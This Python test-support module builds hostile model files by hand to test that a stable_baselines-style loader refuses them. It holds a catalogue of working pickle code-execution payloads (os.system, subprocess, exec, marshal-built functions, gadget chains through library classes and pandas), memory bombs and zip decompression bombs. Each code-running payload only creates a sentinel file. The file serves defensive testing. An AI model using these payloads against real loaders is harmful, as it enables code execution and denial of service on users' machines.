"""
Hostile model files, assembled by hand from pickle opcodes, zip records and .npy headers.

Nothing here uses stable_baselines: the payloads are what an attacker can write without it. Every payload
that aims at running code does one visible thing -- it creates the file ``sentinel`` -- so a test can tell
whether anything from the file ran. Each catalogue entry also says how the same bytes are *live* outside
our loader (``pickle.loads`` of them creates the sentinel, possibly once the object is called / collected),
so the positive controls can show that no test passes vacuously.

Used by ``tests/test_hostile_files.py``; the model-file editors at the end also by the tests of files that carry
a training state.
"""
import base64
import io
import json
import marshal
import pickle
import pickletools
import struct
import sys
import zipfile
import zlib
from typing import Any, Callable, Dict, List, NamedTuple, Optional, Sequence, Tuple

import numpy as np

# ----------------------------------------------------------------------------------------------------------
# a tiny pickle assembler: every function returns the bytes that push one value on the unpickler's stack
# ----------------------------------------------------------------------------------------------------------
MARK = pickle.MARK
STOP = pickle.STOP
NONE = pickle.NONE
TRUE = pickle.NEWTRUE
FALSE = pickle.NEWFALSE


def proto(version: int = 4) -> bytes:
    return pickle.PROTO + bytes([version])


def dumps(body: bytes, version: int = 4) -> bytes:
    """A complete pickle: PROTO, the body (one value), STOP."""
    return proto(version) + body + STOP


def glob(module: str, name: str) -> bytes:
    """GLOBAL opcode (any protocol)."""
    return pickle.GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"


def stack_glob(module: str, name: str) -> bytes:
    """STACK_GLOBAL opcode (protocol 4), as cloudpickle writes them."""
    return s(module) + s(name) + pickle.STACK_GLOBAL


def s(text: str) -> bytes:
    raw = text.encode("utf-8")
    return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw


def b(data: bytes) -> bytes:
    return pickle.BINBYTES + struct.pack("<I", len(data)) + data


def i(value: int) -> bytes:
    if -2 ** 31 <= value < 2 ** 31:
        return pickle.BININT + struct.pack("<i", value)
    raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return pickle.LONG1 + bytes([len(raw)]) + raw


def f(value: float) -> bytes:
    return pickle.BINFLOAT + struct.pack(">d", value)


def tup(*items: bytes) -> bytes:
    if not items:
        return pickle.EMPTY_TUPLE
    return MARK + b"".join(items) + pickle.TUPLE


def lst(*items: bytes) -> bytes:
    if not items:
        return pickle.EMPTY_LIST
    return pickle.EMPTY_LIST + MARK + b"".join(items) + pickle.APPENDS


def dct(pairs: Sequence[Tuple[bytes, bytes]] = ()) -> bytes:
    if not pairs:
        return pickle.EMPTY_DICT
    return pickle.EMPTY_DICT + MARK + b"".join(key + value for key, value in pairs) + pickle.SETITEMS


def sdict(**items: bytes) -> bytes:
    """A dict with string keys."""
    return dct([(s(key), value) for key, value in items.items()])


def call(func: bytes, *args: bytes) -> bytes:
    """REDUCE: func(*args)."""
    return func + tup(*args) + pickle.REDUCE


def new(cls: bytes, *args: bytes) -> bytes:
    """NEWOBJ: cls.__new__(cls, *args)."""
    return cls + tup(*args) + pickle.NEWOBJ


def new_ex(cls: bytes, args: Sequence[bytes] = (), kwargs: Optional[Dict[str, bytes]] = None) -> bytes:
    """NEWOBJ_EX: cls.__new__(cls, *args, **kwargs)."""
    return cls + tup(*args) + sdict(**(kwargs or {})) + pickle.NEWOBJ_EX


def build(obj: bytes, state: bytes) -> bytes:
    """BUILD: obj.__setstate__(state) or obj.__dict__.update(state)."""
    return obj + state + pickle.BUILD


def instance(module: str, name: str, **attributes: bytes) -> bytes:
    """An object of ``module.name`` created without __init__ (NEWOBJ) whose attributes are set (BUILD)."""
    return build(new(glob(module, name)), sdict(**attributes))


def inst_opcode(module: str, name: str, *args: bytes) -> bytes:
    """INST (protocol 0): module.name(*args)."""
    return MARK + b"".join(args) + pickle.INST + module.encode() + b"\n" + name.encode() + b"\n"


def obj_opcode(cls: bytes, *args: bytes) -> bytes:
    """OBJ (protocol 1): cls(*args)."""
    return MARK + cls + b"".join(args) + pickle.OBJ


def import_module(name: str) -> bytes:
    """builtins.__import__(name): the module object."""
    return call(glob("builtins", "__import__"), s(name))


# ----------------------------------------------------------------------------------------------------------
# the pieces of our own library that a file can name (mechanism 1: our classes as a gadget library)
# ----------------------------------------------------------------------------------------------------------
TF_UTIL = "stable_baselines.common.tf_util"
LOGGER = "stable_baselines.logger"
SCHEDULES = "stable_baselines.common.schedules"
DATASET = "stable_baselines.gail.dataset.dataset"
VEC_NORMALIZE = "stable_baselines.common.vec_env.vec_normalize"
RUNNING_MEAN_STD = "stable_baselines.common.running_mean_std"


def bag(**attributes: bytes) -> bytes:
    """
    An innocent object of ours (a ConstantFunction: no __init__ side effects, no __del__) used as a bag of
    attributes: ``bag(run=X).run`` is X, so code doing ``self.sess.run(...)`` calls whatever X is.
    """
    return instance(SCHEDULES, "ConstantFunction", **attributes)


def write_file_via_our_logger(sentinel: str) -> bytes:
    """
    A zero-argument callable built only from our classes: GetFlat.__call__ runs ``self.sess.run(self.operation)``;
    sess.run is the JSONOutputFormat class, operation the sentinel path, and JSONOutputFormat(path) opens the
    path for writing.
    """
    return instance(TF_UTIL, "GetFlat", sess=bag(run=glob(LOGGER, "JSONOutputFormat")), operation=s(sentinel))


def any_arity_callable(zero_arg_callable: bytes) -> bytes:
    """
    A callable of ours taking any positional arguments and calling ``zero_arg_callable()``:
    FeedCallable.__call__ reorders its arguments by ``_positions`` (empty: all dropped) and calls ``_callable``.
    """
    return instance(TF_UTIL, "FeedCallable", n_args=i(1), _all_positions=FALSE, _positions=lst(),
                    _callable=zero_arg_callable, fetches=lst(i(0)), _tensor_slots=lst(), feeds=lst(),
                    _dtypes=lst(), _accepted=lst(), _op_padding=NONE)


def pandas_eval_via_our_gadget(sentinel: str) -> bytes:
    """
    Mechanism 2 through mechanism 1: GetFlat calls ``sess.run(operation)`` with sess.run the pandas class
    ``Expr``, which parses *and evaluates* its string argument, resolving names in the caller's globals (those of
    the module defining GetFlat, which imports numpy as ``np``: ``np.save`` writes the sentinel file).
    """
    code = "np.save('{}', 0)".format(sentinel)
    return instance(TF_UTIL, "GetFlat", sess=bag(run=glob("pandas.core.computation.expr", "Expr")),
                    operation=s(code))


def python_code_object(source: str) -> bytes:
    """A code object rebuilt with types.CodeType(...) from the fields of ``compile(source)`` (Python 3.11 layout)."""
    code = compile(source, "<payload>", "exec")
    fields = [i(code.co_argcount), i(code.co_posonlyargcount), i(code.co_kwonlyargcount), i(code.co_nlocals),
              i(code.co_stacksize), i(code.co_flags), b(code.co_code), _consts(code.co_consts),
              tup(*[s(name) for name in code.co_names]), tup(*[s(name) for name in code.co_varnames]),
              s(code.co_filename), s(code.co_name)]
    if sys.version_info >= (3, 11):
        fields.append(s(code.co_qualname))
    fields.append(i(code.co_firstlineno))
    fields.append(b(code.co_linetable if sys.version_info >= (3, 10) else code.co_lnotab))
    if sys.version_info >= (3, 11):
        fields.append(b(code.co_exceptiontable))
    fields += [tup(*[s(name) for name in code.co_freevars]), tup(*[s(name) for name in code.co_cellvars])]
    return call(glob("types", "CodeType"), *fields)


def _consts(consts: tuple) -> bytes:
    items = []
    for const in consts:
        if const is None:
            items.append(NONE)
        elif isinstance(const, str):
            items.append(s(const))
        elif isinstance(const, int):
            items.append(i(const))
        else:
            raise TypeError("unsupported constant {!r}".format(const))
    return tup(*items)


# ----------------------------------------------------------------------------------------------------------
# the catalogue of code-running payloads
# ----------------------------------------------------------------------------------------------------------
class Payload(NamedTuple):
    """
    name: short id; build(sentinel, workdir) -> pickle bytes; live: how the bytes run code under plain pickle:
    'loads' (pickle.loads creates the sentinel), 'call0' / 'call1' (calling the loaded object with no / one
    argument does), 'close' (calling its close() method does), 'gc' (collecting it does), 'extension' (after
    registering the copyreg extension code 0x7ffff0), None (not live by itself).
    """
    name: str
    build: Callable[[str, str], bytes]
    live: Optional[str]
    doc: str


def _touch(sentinel: str) -> str:
    return "touch {}".format(sentinel)


def _open_code(sentinel: str) -> str:
    return "open({!r}, 'w').close()".format(sentinel)


def _nested_pickle_file(workdir: str, sentinel: str) -> str:
    """A second, plain pickle file next to the model (as a zoo folder may ship): os.system('touch sentinel')."""
    import os  # pylint: disable=import-outside-toplevel
    path = os.path.join(workdir, "companion.npy")
    with open(path, "wb") as file_handler:
        file_handler.write(dumps(call(glob("os", "system"), s(_touch(sentinel))), 2))
    return path


def _cloudpickled_function(sentinel: str) -> bytes:
    """The body (no PROTO / STOP) of a genuine cloudpickle (protocol 2, no frames) of a function writing a file."""
    import cloudpickle  # pylint: disable=import-outside-toplevel
    path = sentinel
    namespace = {"path": path}
    exec("def schedule(progress):\n    open(path, 'w').close()\n    return progress\n", namespace)  # noqa: S102
    raw = cloudpickle.dumps(namespace["schedule"], protocol=2)
    assert raw[:2] == proto(2) and raw[-1:] == STOP
    return raw[2:-1]


def _skeleton_class(bases: bytes, namespace: bytes) -> bytes:
    """cloudpickle's dynamic class: _make_skeleton_class(type, name, bases, {}, tracker id, None) + _class_setstate."""
    cloudpickle_module = "cloudpickle.cloudpickle"
    skeleton = call(glob(cloudpickle_module, "_make_skeleton_class"), glob("builtins", "type"), s("Evil"), bases,
                    dct(), s("0123456789abcdef0123456789abcdef"), NONE)
    return call(glob(cloudpickle_module, "_class_setstate"), skeleton, tup(namespace, dct()))


def _function_from_marshal(sentinel: str) -> bytes:
    """types.FunctionType(marshal.loads(<code of ``lambda *args: open(sentinel, 'w').close()``>), {})"""
    module_code = compile("lambda *args: " + _open_code(sentinel), "<payload>", "eval")
    code = marshal.dumps(next(const for const in module_code.co_consts if hasattr(const, "co_code")))
    return call(glob("types", "FunctionType"), call(glob("marshal", "loads"), b(code)), dct())


PAYLOADS: List[Payload] = [
    Payload("reduce_os_system", lambda p, w: dumps(call(glob("os", "system"), s(_touch(p)))), "loads",
            "REDUCE os.system('touch ...')"),
    Payload("reduce_posix_system_proto0", lambda p, w: dumps(call(glob("posix", "system"), s(_touch(p))), 0),
            "loads", "protocol 0, posix.system"),
    Payload("reduce_subprocess_check_call",
            lambda p, w: dumps(call(glob("subprocess", "check_call"), lst(s("touch"), s(p)))), "loads",
            "subprocess.check_call(['touch', ...])"),
    Payload("reduce_subprocess_popen_newobj",
            lambda p, w: dumps(call(glob("subprocess", "Popen"), lst(s("touch"), s(p)))), "loads",
            "subprocess.Popen(...) (a class: REDUCE calls it)"),
    Payload("reduce_builtins_exec", lambda p, w: dumps(call(glob("builtins", "exec"), s(_open_code(p)))), "loads",
            "builtins.exec(source)"),
    Payload("reduce_builtins_eval", lambda p, w: dumps(call(glob("builtins", "eval"), s(_open_code(p)))), "loads",
            "builtins.eval(expression)"),
    Payload("reduce_builtins_open", lambda p, w: dumps(call(glob("builtins", "open"), s(p), s("w"))), "loads",
            "builtins.open(path, 'w')"),
    Payload("stack_global_builtins_exec",
            lambda p, w: dumps(call(stack_glob("builtins", "exec"), s(_open_code(p)))), "loads",
            "STACK_GLOBAL spelling of builtins.exec"),
    Payload("getattr_import_os_system",
            lambda p, w: dumps(call(call(glob("builtins", "getattr"), import_module("os"), s("system")),
                                    s(_touch(p)))), "loads",
            "getattr(__import__('os'), 'system')(...)"),
    Payload("operator_methodcaller",
            lambda p, w: dumps(call(call(glob("operator", "methodcaller"), s("system"), s(_touch(p))),
                                    import_module("os"))), "loads",
            "operator.methodcaller('system', cmd)(__import__('os'))"),
    Payload("operator_attrgetter",
            lambda p, w: dumps(call(call(call(glob("operator", "attrgetter"), s("system")), import_module("os")),
                                    s(_touch(p)))), "loads",
            "operator.attrgetter('system')(os)(cmd)"),
    Payload("functools_partial",
            lambda p, w: dumps(call(call(glob("functools", "partial"), glob("os", "system"), s(_touch(p))))),
            "loads", "functools.partial(os.system, cmd)()"),
    Payload("copyreg_reconstructor_our_class",
            lambda p, w: dumps(call(glob("copyreg", "_reconstructor"), glob(LOGGER, "JSONOutputFormat"),
                                    glob(LOGGER, "JSONOutputFormat"), s(p))), "loads",
            "copyreg._reconstructor(cls, base=JSONOutputFormat, state=path): base.__init__(obj, path) opens it"),
    Payload("copyreg_reconstructor_popen",
            lambda p, w: dumps(call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"),
                                    glob("subprocess", "Popen"), lst(s("touch"), s(p)))), "loads",
            "copyreg._reconstructor(Popen, Popen, argv): Popen.__init__(obj, argv) runs the command"),
    Payload("numpy_testing_runstring",
            lambda p, w: dumps(call(glob("numpy.testing._private.utils", "runstring"), s(_open_code(p)), dct())),
            "loads", "numpy.testing's runstring(source, dict) is exec"),
    Payload("numpy_testing_public_name",
            lambda p, w: dumps(call(glob("numpy.testing", "runstring"), s(_open_code(p)), dct())), "loads",
            "the same through the public module name"),
    Payload("numpy_save",
            lambda p, w: dumps(call(glob("numpy", "save"), s(p), call(glob("numpy", "zeros"), i(1)))), "loads",
            "numpy.save(path, numpy.zeros(1))"),
    Payload("numpy_load_allow_pickle",
            lambda p, w: dumps(call(glob("numpy", "load"), s(_nested_pickle_file(w, p)), NONE, TRUE)), "loads",
            "numpy.load(companion_file, None, allow_pickle=True): a second-stage plain pickle"),
    Payload("numpy_savetxt_by_implementation_module",
            lambda p, w: dumps(call(glob("numpy.lib._npyio_impl", "savetxt"), s(p),
                                    call(glob("numpy", "zeros"), i(1)))), "loads",
            "numpy savetxt by its implementation module"),
    Payload("pandas_expr_direct",
            lambda p, w: dumps(call(glob("pandas.core.computation.expr", "Expr"),
                                    s("os.system('touch {}')".format(p)))), "loads",
            "pandas Expr(string) evaluates it (names from the calling frame's globals)"),
    Payload("pandas_read_pickle_companion",
            lambda p, w: dumps(call(glob("pandas", "read_pickle"), s(_nested_pickle_file(w, p)))), "loads",
            "pandas.read_pickle(companion_file)"),
    Payload("tensorflow_file_io",
            lambda p, w: dumps(call(glob("tensorflow.python.lib.io.file_io", "write_string_to_file"), s(p),
                                    s("x"))), "loads",
            "TensorFlow's file_io.write_string_to_file(path, 'x')"),
    Payload("tensorflow_atomic_write",
            lambda p, w: dumps(call(glob("tensorflow.python.lib.io.file_io", "atomic_write_string_to_file"), s(p),
                                    s("x"))), "loads",
            "TensorFlow's atomic_write_string_to_file"),
    Payload("types_functiontype_marshal",
            lambda p, w: dumps(call(_function_from_marshal(p))), "loads",
            "types.FunctionType(marshal.loads(code), {})()"),
    Payload("types_codetype_functiontype",
            lambda p, w: dumps(call(call(glob("types", "FunctionType"), python_code_object(_open_code(p)), dct()))),
            "loads", "types.FunctionType(types.CodeType(...), {})()"),
    Payload("cloudpickle_function_called",
            lambda p, w: dumps(call(_cloudpickled_function(p), f(1.0)), 2), "loads",
            "a genuine cloudpickled function (writes a file) called by REDUCE in the pickle itself"),
    Payload("cloudpickle_dynamic_class_of_ours",
            lambda p, w: dumps(call(_skeleton_class(tup(glob(LOGGER, "JSONOutputFormat")), dct()), s(p))),
            "loads", "cloudpickle _make_skeleton_class(JSONOutputFormat subclass) called with the path"),
    Payload("cloudpickle_dynamic_class_del",
            lambda p, w: dumps(new(_skeleton_class(tup(glob(SCHEDULES, "ConstantFunction")),
                                                   sdict(__del__=_function_from_marshal(p))))), "gc",
            "a dynamic subclass of our ConstantFunction whose __del__ is a marshal-built function"),
    Payload("inst_opcode_os_system", lambda p, w: dumps(inst_opcode("os", "system", s(_touch(p))), 0), "loads",
            "INST opcode (protocol 0): os.system(cmd)"),
    Payload("obj_opcode_os_system", lambda p, w: dumps(obj_opcode(glob("os", "system"), s(_touch(p))), 1), "loads",
            "OBJ opcode (protocol 1): os.system(cmd)"),
    Payload("obj_opcode_our_logger",
            lambda p, w: dumps(obj_opcode(glob(LOGGER, "JSONOutputFormat"), s(p)), 1), "loads",
            "OBJ opcode on our JSONOutputFormat: its __init__ opens the path"),
    Payload("inst_opcode_our_logger", lambda p, w: dumps(inst_opcode(LOGGER, "HumanOutputFormat", s(p)), 0), "loads",
            "INST opcode on our HumanOutputFormat: its __init__ opens the path"),
    Payload("reduce_our_logger_class", lambda p, w: dumps(call(glob(LOGGER, "CSVOutputFormat"), s(p))), "loads",
            "REDUCE on our CSVOutputFormat class"),
    Payload("newobj_ex_subprocess_popen",
            lambda p, w: dumps(build(new_ex(glob("subprocess", "Popen"), [lst(s("touch"), s(p))]), dct())), None,
            "NEWOBJ_EX of a third-party/stdlib class (only __new__ runs: not live, must still be refused)"),
    Payload("newobj_ex_our_logger",
            lambda p, w: dumps(build(new_ex(glob(LOGGER, "JSONOutputFormat"), [s(p)]), sdict(file=NONE))), None,
            "NEWOBJ_EX of our JSONOutputFormat (only __new__ runs: not live, must still be refused)"),
    Payload("inst_opcode_pandas_expr",
            lambda p, w: dumps(inst_opcode("pandas.core.computation.expr", "Expr",
                                           s("os.system('touch {}')".format(p))), 0), "loads",
            "INST opcode (protocol 0) on the pandas Expr class"),
    Payload("extension_registry_os_system",
            lambda p, w: dumps(pickle.EXT4 + struct.pack("<i", 0x7ffff0) + tup(s(_touch(p))) + pickle.REDUCE), "extension",
            "EXT4 code registered for os.system in copyreg's extension registry"),
    Payload("persistent_id", lambda p, w: dumps(s(_touch(p)) + pickle.BINPERSID), None,
            "BINPERSID: a persistent id (plain pickle.loads refuses it)"),
    # --- mechanism 1: our classes as a gadget library (objects built from the file, code runs when used)
    Payload("gadget_getflat_logger", lambda p, w: dumps(write_file_via_our_logger(p)), "call0",
            "GetFlat{sess: bag{run: JSONOutputFormat}, operation: path}: calling it writes the file"),
    Payload("gadget_feedcallable_any_arity", lambda p, w: dumps(any_arity_callable(write_file_via_our_logger(p))),
            "call1", "FeedCallable dropping its arguments and calling the GetFlat gadget"),
    Payload("gadget_pandas_expr_via_getflat", lambda p, w: dumps(pandas_eval_via_our_gadget(p)), "call0",
            "GetFlat whose sess.run is pandas Expr: os.system through pandas' evaluator"),
    Payload("gadget_logger_close",
            lambda p, w: dumps(instance(LOGGER, "Logger", output_formats=lst(instance(
                LOGGER, "HumanOutputFormat", own_file=TRUE, _file=bag(close=write_file_via_our_logger(p)))))),
            "close", "Logger.close() -> HumanOutputFormat.close() -> self._file.close() -> the gadget"),
    Payload("gadget_constant_function_holding_class", lambda p, w: dumps(bag(val=glob(LOGGER, "JSONOutputFormat"))),
            None, "an object of ours holding a class of ours: no instance may be built from a file"),
    Payload("newobj_gymnasium_space_with_gadget",
            lambda p, w: dumps(build(new(glob("gymnasium.spaces.box", "Box")),
                                     sdict(_np_random=write_file_via_our_logger(p), _shape=tup(i(1))))),
            None, "a gymnasium Box built by NEWOBJ + BUILD (not its constructor) carrying a gadget"),
    # --- mechanism 3: __del__ of the exempted classes calls attribute methods at garbage collection
    Payload("del_expert_dataset",
            lambda p, w: dumps(instance(DATASET, "ExpertDataset", dataloader=bag(close=write_file_via_our_logger(p)),
                                        train_loader=NONE, val_loader=NONE)), "gc",
            "ExpertDataset.__del__ -> self.dataloader.close() -> gadget"),
    Payload("del_dataloader",
            lambda p, w: dumps(instance(DATASET, "DataLoader", _stop_event=bag(set=write_file_via_our_logger(p)),
                                        process=NONE)), "gc",
            "DataLoader.__del__ -> self._stop_event.set() -> gadget"),
    Payload("del_expert_dataset_inside_refused_value",
            lambda p, w: dumps(tup(instance(DATASET, "ExpertDataset",
                                            dataloader=bag(close=write_file_via_our_logger(p)),
                                            train_loader=NONE, val_loader=NONE),
                                   glob("os", "system"))), "gc",
            "the __del__ gadget next to a refused global: refusing the load does not stop the collector"),
    # --- mechanism 2: classes of third-party modules that happen to be imported
    Payload("third_party_class_pandas_expr", lambda p, w: dumps(glob("pandas.core.computation.expr", "Expr")), None,
            "the pandas Expr class by reference"),
    Payload("third_party_class_h5py_file", lambda p, w: dumps(glob("h5py._hl.files", "File")), None,
            "the h5py File class by reference"),
    Payload("third_party_class_requests_session", lambda p, w: dumps(glob("requests.sessions", "Session")), None,
            "the requests Session class by reference"),
    Payload("third_party_instance_pandas_expr",
            lambda p, w: dumps(build(new(glob("pandas.core.computation.expr", "Expr")), sdict(expr=s("1")))), None,
            "a pandas Expr object built by NEWOBJ + BUILD"),
]

PAYLOADS_BY_NAME = {payload.name: payload for payload in PAYLOADS}
EXTENSION_CODE = 0x7ffff0


# ----------------------------------------------------------------------------------------------------------
# bombs: small inputs that ask for a lot of memory or time
# ----------------------------------------------------------------------------------------------------------
GIB = 2 ** 30


def pickle_bombs() -> Dict[str, bytes]:
    """name -> pickle bytes (each under a few hundred KB)."""
    depth = 50000
    nested_lists = pickle.EMPTY_LIST * depth + pickle.APPEND * (depth - 1)
    nested_tuples = NONE + pickle.TUPLE1 * depth
    key = pickle.SHORT_BINUNICODE + b"\x01k"
    nested_dicts = pickle.EMPTY_DICT + (key + pickle.EMPTY_DICT) * depth + pickle.SETITEM * depth
    memo_tuples = NONE + (pickle.DUP + pickle.TUPLE2) * 60
    return {
        "bytearray_4gib": dumps(call(glob("builtins", "bytearray"), i(4 * GIB))),
        "bytes_4gib": dumps(call(glob("builtins", "bytes"), i(4 * GIB))),
        "operator_mul_bytes": dumps(call(glob("operator", "mul"), b(b"x"), i(4 * GIB))),
        "operator_mul_list": dumps(call(glob("_operator", "mul"), lst(NONE), i(2 ** 29))),
        "numpy_reconstruct_giant_shape": dumps(call(glob("numpy.core.multiarray", "_reconstruct"),
                                                    glob("numpy", "ndarray"), tup(i(4 * GIB)), b(b"b"))),
        "numpy_reconstruct_giant_dtype": dumps(call(glob("numpy._core.multiarray", "_reconstruct"),
                                                    glob("numpy", "ndarray"), tup(i(2 ** 20)),
                                                    call(glob("numpy", "dtype"), s("V4096")))),
        "numpy_setstate_giant_shape": dumps(build(call(glob("numpy._core.multiarray", "_reconstruct"),
                                                       glob("numpy", "ndarray"), tup(i(0)), b(b"b")),
                                                  tup(i(1), tup(i(4 * GIB)), call(glob("numpy", "dtype"), s("u1")),
                                                      FALSE, b(b"")))),
        "numpy_dtype_giant_subarray": dumps(call(glob("numpy", "dtype"), tup(s("u1"), tup(i(GIB), i(4))))),
        "numpy_zeros": dumps(call(glob("numpy", "zeros"), i(4 * GIB), s("u1"))),
        "range_to_list": dumps(call(glob("builtins", "list"), call(glob("builtins", "range"), i(2 ** 31)))),
        "long4_declared_huge": proto(4) + pickle.LONG4 + struct.pack("<i", 2 ** 31 - 1) + b"\x01" * 16 + STOP,
        "binbytes8_declared_huge": proto(4) + pickle.BINBYTES8 + struct.pack("<Q", 2 ** 40) + b"x" * 16 + STOP,
        "binunicode8_declared_huge": proto(4) + pickle.BINUNICODE8 + struct.pack("<Q", 4 * GIB) + b"x" * 16 + STOP,
        "bytearray8_declared_huge": proto(5) + pickle.BYTEARRAY8 + struct.pack("<Q", 4 * GIB) + b"x" * 16 + STOP,
        "frame_declared_huge": proto(4) + pickle.FRAME + struct.pack("<Q", 4 * GIB) + NONE + STOP,
        "nested_lists_50k": proto(4) + nested_lists + STOP,
        "nested_tuples_50k": proto(4) + nested_tuples + STOP,
        "nested_dicts_50k": proto(4) + nested_dicts + STOP,
        "memo_tuples_2pow60": proto(4) + memo_tuples + STOP,
        "memo_lists_2pow60": proto(4) + _memo_list_bomb(60) + STOP,
    }


def _memo_list_bomb(levels: int) -> bytes:
    """x0 = [None, None]; x(k) = [x(k-1), x(k-1)] through the memo: 2**levels leaves if walked naively."""
    body = pickle.EMPTY_LIST + pickle.BINPUT + bytes([0]) + MARK + NONE + NONE + pickle.APPENDS
    for level in range(1, levels + 1):
        previous = pickle.BINGET + bytes([level - 1])
        body += pickle.POP + pickle.EMPTY_LIST + pickle.BINPUT + bytes([level]) + MARK + previous + previous + \
            pickle.APPENDS
    return body


# ----------------------------------------------------------------------------------------------------------
# .npy / .npz / zip craft
# ----------------------------------------------------------------------------------------------------------
def npy_header(descr: str, shape: Tuple[int, ...], fortran: bool = False) -> bytes:
    """A version 1.0 .npy header (magic, length, dict, padding)."""
    header = "{{'descr': {!r}, 'fortran_order': {}, 'shape': {}, }}".format(descr, fortran, tuple(shape))
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1")


def npy_object_array(pickle_body: bytes) -> bytes:
    """A .npy of dtype object: numpy writes such arrays as a pickle after the header (np.load needs allow_pickle)."""
    return npy_header("|O", (1,)) + pickle_body


def zip_bytes(members: Sequence[Tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


class ZipEntry(NamedTuple):
    """A zip member written by hand: what is stored, and what the headers declare."""
    name: str
    stored: bytes
    compress_size: int
    file_size: int
    crc: int
    method: int


def stored_entry(name: str, content: bytes) -> ZipEntry:
    return ZipEntry(name, content, len(content), len(content), zlib.crc32(content), zipfile.ZIP_STORED)


def declared_entry(name: str, content: bytes, declared: int) -> ZipEntry:
    """A stored member whose headers declare ``declared`` bytes (compressed and not) but that holds ``content``."""
    return ZipEntry(name, content, declared, declared, zlib.crc32(content), zipfile.ZIP_STORED)


_DEFLATE_CACHE: Dict[Tuple[int, bytes], Tuple[bytes, bytes]] = {}


def deflate_bomb_entry(name: str, prefix: bytes, size: int, fill: bytes = b"\0") -> ZipEntry:
    """
    A deflate member of ``size`` bytes (``prefix`` then ``fill``) stored in about size / 1000 bytes. The stream is
    made of identical full-flush blocks and the CRC is computed chunk by chunk: valid, and built in about a second.
    """
    chunk = 1 << 24
    assert size % chunk == 0 and len(prefix) < chunk and len(fill) == 1
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first_chunk = prefix + fill * (chunk - len(prefix))
    first = compressor.compress(first_chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    filler = fill * chunk
    if (chunk, fill) not in _DEFLATE_CACHE:
        probe = zlib.compressobj(9, zlib.DEFLATED, -15)
        probe.compress(filler)
        probe.flush(zlib.Z_FULL_FLUSH)
        block = probe.compress(filler) + probe.flush(zlib.Z_FULL_FLUSH)
        again = probe.compress(filler) + probe.flush(zlib.Z_FULL_FLUSH)
        assert block == again
        _DEFLATE_CACHE[(chunk, fill)] = (block, zlib.crc32(filler))
    block, filler_crc = _DEFLATE_CACHE[(chunk, fill)]
    n_chunks = size // chunk
    stream = first + block * (n_chunks - 1) + compressor.flush(zlib.Z_FINISH)
    crc = crc32_combine(zlib.crc32(first_chunk), crc32_repeat(filler_crc, chunk, n_chunks - 1), chunk * (n_chunks - 1))
    return ZipEntry(name, stream, len(stream), size, crc, zipfile.ZIP_DEFLATED)


def _gf2_times(matrix: List[int], vector: int) -> int:
    total = 0
    index = 0
    while vector:
        if vector & 1:
            total ^= matrix[index]
        vector >>= 1
        index += 1
    return total


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A + B from crc(A), crc(B) and len(B) (zlib's crc32_combine, which Python does not expose)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = [_gf2_times(odd, row) for row in odd]  # two zero bits
    odd = [_gf2_times(even, row) for row in even]  # four zero bits
    while True:
        even = [_gf2_times(odd, row) for row in odd]
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = [_gf2_times(even, row) for row in even]
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def crc32_repeat(crc: int, length: int, count: int) -> int:
    """CRC-32 of ``count`` copies of a block of ``length`` bytes whose CRC-32 is ``crc`` (by doubling)."""
    result, result_length = 0, 0
    power, power_length = crc, length
    while count:
        if count & 1:
            result = crc32_combine(result, power, power_length)
            result_length += power_length
        power = crc32_combine(power, power, power_length)
        power_length *= 2
        count >>= 1
    return result


def raw_zip(entries: Sequence[ZipEntry]) -> bytes:
    """Write zip records by hand (sizes up to 4 GiB - 1: no zip64)."""
    out = io.BytesIO()
    central = []
    for entry in entries:
        offset = out.tell()
        raw_name = entry.name.encode()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, entry.method, 0, 0x21, entry.crc,
                              entry.compress_size, entry.file_size, len(raw_name), 0))
        out.write(raw_name)
        out.write(entry.stored)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, entry.method, 0, 0x21, entry.crc,
                                   entry.compress_size, entry.file_size, len(raw_name), 0, 0, 0, 0, 0, offset)
                       + raw_name)
    start = out.tell()
    for record in central:
        out.write(record)
    end = out.tell()
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), end - start, start, 0))
    return out.getvalue()


def npy_header_for_size(descr: str, itemsize: int, total: int) -> bytes:
    """A .npy header whose 1-d shape makes header + data exactly ``total`` bytes."""
    header = npy_header(descr, (1,))
    for _ in range(3):
        header = npy_header(descr, ((total - len(header)) // itemsize,))
    assert (total - len(header)) % itemsize == 0
    return header


# ----------------------------------------------------------------------------------------------------------
# model files
# ----------------------------------------------------------------------------------------------------------
def serialized(pickle_bytes: bytes, type_name: str = "<class 'object'>") -> dict:
    """A ``data`` JSON entry holding a pickle, as the zip format stores non-JSON values."""
    return {":type:": type_name, ":serialized:": base64.b64encode(pickle_bytes).decode()}


def read_zip_members(model_zip: bytes) -> Dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(model_zip)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rewrite_model_file(path: str, target: str, change: Callable[[Dict[str, bytes]], None]) -> str:
    """
    Copy the model file ``path`` to ``target`` with ``change(members)`` applied to its members (name -> bytes).

    :return: (str) ``target``
    """
    with open(path, "rb") as file_handler:
        members = read_zip_members(file_handler.read())
    change(members)
    with open(target, "wb") as file_handler:
        file_handler.write(zip_bytes(list(members.items())))
    return target


def edit_json_member(member: str, edit: Callable[[Any], None]) -> Callable[[Dict[str, bytes]], None]:
    """:return: (callable) a ``change`` for :func:`rewrite_model_file` that lets ``edit`` alter the JSON member"""
